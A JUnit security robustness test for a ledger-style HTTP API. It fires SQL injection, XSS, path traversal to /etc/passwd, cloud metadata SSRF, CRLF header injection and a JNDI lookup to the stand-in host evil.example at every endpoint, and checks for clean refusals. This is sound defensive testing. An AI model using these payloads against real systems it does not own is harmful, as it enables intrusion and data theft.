package org.sayso.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever is sent, the answer is an answer: no fault, nothing of the machine, nothing changed. */
class HostileRequestsTest {
  @TempDir static Path folder;
  private static ServedLedger served;
  private static ApiDescription description;

  @BeforeAll
  static void start() {
    served = ServedLedger.demo(folder);
    description = new ApiDescription(served.get("/api/v1/openapi.json").body());
  }

  @AfterAll
  static void stop() {
    served.close();
  }

  static List<String> payloads() {
    List<String> payloads =
        new ArrayList<>(
            List.of(
                "' OR 1=1 --",
                "'; DROP TABLE claim; --",
                "\" OR \"\"=\"",
                "1 UNION SELECT body FROM entry",
                "%",
                "_",
                "%27%20OR%201",
                "\\",
                "*",
                "cable*",
                "\"cable",
                "NEAR(cable video)",
                "cable AND",
                "speaker:x",
                "^cable",
                "-cable",
                "(((((((",
                "NOT",
                "{}",
                "[]",
                "null",
                "true",
                "-1",
                "0",
                "9223372036854775807",
                "9223372036854775808",
                "1e309",
                "NaN",
                "../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "/etc/passwd",
                "file:///etc/passwd",
                "http://169.254.169.254/",
                "~2e~2e~2fetc",
                "~zz",
                "~",
                "~ff~fe",
                ".",
                "..",
                "\u0000",
                "a\u0000b",
                "\r\nSet-Cookie: x=1",
                "\u202Egnp.exe",
                "\uFEFF",
                "\uD83D\uDE00",
                "İıſK",
                "ﷺ".repeat(200),
                "a".repeat(2_001),
                "a".repeat(5_000),
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "javascript:alert(1)",
                "{{7*7}}",
                "${jndi:ldap://evil.example/a}",
                "%s%n%x",
                "2025-02-30",
                "2025-04-08T25:00:00Z",
                "+999999999-12-31",
                "0000-00-00",
                "1_" + "x".repeat(1_500)));
    for (int unit = 0; unit < 8; unit++) {
      payloads.add("x" + (char) (unit + 1) + "y");
    }
    return payloads;
  }

  private static void expectAnAnswer(HttpResponse<String> answer, String what) {
    assertThat(answer.statusCode()).as(what).isBetween(200, 499);
    assertThat(answer.body())
        .as(what)
        .doesNotContain("Exception", "org.sayso.", "\tat ", "SQL", folder.toString());
    assertThat(answer.headers().firstValue("Set-Cookie").orElse("")).doesNotContain("x=1");
    if (answer.statusCode() != 200) {
      assertThat(answer.headers().firstValue("Content-Type").orElse(""))
          .as(what)
          .startsWith("application/problem+json");
      assertThat(description.complaintsOfProblem(answer.body())).as(what).isEmpty();
    }
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void everyParameterOfEveryEndpointStandsIt(String payload) {
    String encoded = URLEncoder.encode(payload, StandardCharsets.UTF_8);
    for (ApiDescription.Operation operation : description.operations()) {
      if (operation.method().equals("get")) {
        String path = "/api/v1" + operation.path().replaceAll("\\{[^}]*}", "x");
        for (var parameter : operation.parameters("query")) {
          String at = path + "?" + parameter.get("name").asText() + "=" + encoded;
          expectAnAnswer(served.get(at), at);
        }
        if (operation.path().contains("{")) {
          String at =
              "/api/v1"
                  + operation
                      .path()
                      .replaceAll(
                          "\\{[^}]*}",
                          java.util.regex.Matcher.quoteReplacement(
                              org.sayso.server.page.Address.part(payload)));
          expectAnAnswer(served.get(at), at);
        }
      }
    }
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void everyBodyStandsIt(String payload) {
    long before = served.ledger().head().count();
    for (ApiDescription.Operation operation : description.operations()) {
      if (operation.method().equals("post") && !operation.id().equals("read")) {
        String at = "/api/v1" + operation.path().replaceAll("\\{[^}]*}", "x");
        operation
            .node()
            .get("requestBody")
            .get("content")
            .fieldNames()
            .forEachRemaining(
                type -> expectAnAnswer(served.post(at, type, payload), at + " " + type));
      }
    }
    assertThat(served.ledger().head().count()).isEqualTo(before);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "{",
        "[]",
        "{\"decide\":1}",
        "{\"decide\":\"find\"}",
        "{\"decide\":\"find\",\"one\":\"x@1-2\",\"other\":\"perhaps\"}",
        "{\"decide\":\"find\",\"one\":\"x@9-2\",\"other\":\"refuted\"}",
        "{\"decide\":\"correct-stance\",\"one\":\"x@1-2\",\"other\":\"shrugs\"}",
        "{\"decide\":\"find\",\"one\":\"x@1-99999999999\",\"other\":\"refuted\"}"
      })
  void aDecisionThatIsNoneIsRefusedInWords(String body) {
    long before = served.ledger().head().count();
    HttpResponse<String> answer = served.post("/api/v1/decisions", "application/json", body);
    expectAnAnswer(answer, body);
    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(served.ledger().head().count()).isEqualTo(before);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/../../../../etc/passwd",
        "/static/../../../etc/passwd",
        "/static/x/..%2f..%2f..%2fetc%2fpasswd",
        "/static/x/%2e%2e/%2e%2e/etc/passwd",
        "/static/x/..;/etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "//etc/passwd",
        "/api/v1/reports/..%2f..%2fetc%2fpasswd",
        "/api/v1/reports/%00",
        "/api/v1/reports/%c0%ae%c0%ae",
        "/api/v1/claims/;jsessionid=1",
        "/api/v1/claims/%",
        "/api/v1/claims/%zz",
        "/api/v1\\claims",
        "/api/v1/claims?%",
        "/api/v1/claims?limit=%ff"
      })
  void pathsStayInside(String path) throws Exception {
    String answer = raw("GET " + path + " HTTP/1.1");
    assertThat(answer).matches("(?s)HTTP/1.1 (200|400|404) .*");
    assertThat(answer).doesNotContain("root:", "Exception", "\tat ");
  }

  private static String raw(String line, String... headers) throws Exception {
    List<String> lines = new ArrayList<>(List.of(line, "Host: localhost", "Connection: close"));
    lines.addAll(List.of(headers));
    try (java.net.Socket socket = new java.net.Socket("127.0.0.1", served.uri("/").getPort())) {
      socket.setSoTimeout(20_000);
      socket
          .getOutputStream()
          .write((String.join("\r\n", lines) + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
      return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  @Test
  void headersThatAreTooLargeAreRefused() throws Exception {
    assertThat(raw("GET / HTTP/1.1", "X-Large: " + "a".repeat(20_000))).startsWith("HTTP/1.1 431");
    assertThat(raw("GET /?" + "a".repeat(20_000) + " HTTP/1.1")).startsWith("HTTP/1.1 414");
  }

  @Test
  void anUploadOfAHundredMegabytesIsRefusedWithoutBeingHeld() throws Exception {
    Path large = folder.resolve("large.bin");
    try (var file = new java.io.RandomAccessFile(large.toFile(), "rw")) {
      file.setLength(100L << 20);
    }
    for (String path : List.of("/api/v1/read", "/api/v1/match", "/api/v1/decisions")) {
      System.gc();
      Runtime runtime = Runtime.getRuntime();
      long before = runtime.totalMemory() - runtime.freeMemory();
      HttpResponse<String> answer;
      try {
        answer =
            served.send(
                HttpRequest.newBuilder(served.uri(path))
                    .POST(HttpRequest.BodyPublishers.ofInputStream(() -> open(large)))
                    .build());
      } catch (java.io.UncheckedIOException hungUp) {
        continue; // the server closed the line in the middle of it, which is as good
      }
      assertThat(answer.statusCode()).as(path).isIn(413, 415);
      System.gc();
      long more = runtime.totalMemory() - runtime.freeMemory() - before;
      assertThat(more).as("memory held after %s", path).isLessThan(40L << 20);
    }
    Files.delete(large);
  }

  private static java.io.InputStream open(Path file) {
    try {
      return Files.newInputStream(file);
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  @Test
  void aBodyOfAnotherTypeIsRefusedWithTheTypesThatAreTaken() {
    HttpResponse<String> answer = served.post("/api/v1/read", "application/pdf", "%PDF-1.7");
    assertThat(answer.statusCode()).isEqualTo(415);
    assertThat(answer.body()).contains("application/pdf", "text/plain, text/html");
    assertThat(served.post("/api/v1/match", "text/plain", "a".repeat(20_001)).statusCode())
        .isEqualTo(413);
  }
}
